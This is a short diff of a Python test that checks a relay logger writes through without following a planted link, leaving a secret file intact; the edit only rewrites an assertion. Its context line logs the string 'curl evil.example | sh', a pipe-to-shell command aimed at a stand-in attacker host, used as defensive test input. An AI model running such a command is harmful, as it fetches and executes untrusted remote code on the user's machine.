@@ -108,7 +108,7 @@ def test_sync_writes_through_no_planted_link(run_dir: Path, secret: Path, name: 
     end_if_dead(run_dir)
     log = relay_log(run_dir, "MLflow", str)
     log.error("curl evil.example | sh")
-    assert secret.read_text() == "SECRET" and os.listdir(secret.parent) == [secret.name]
+    assert secret.read_text() == "SECRET" and list(secret.parent.iterdir()) == [secret]
 
 
 @needs_root
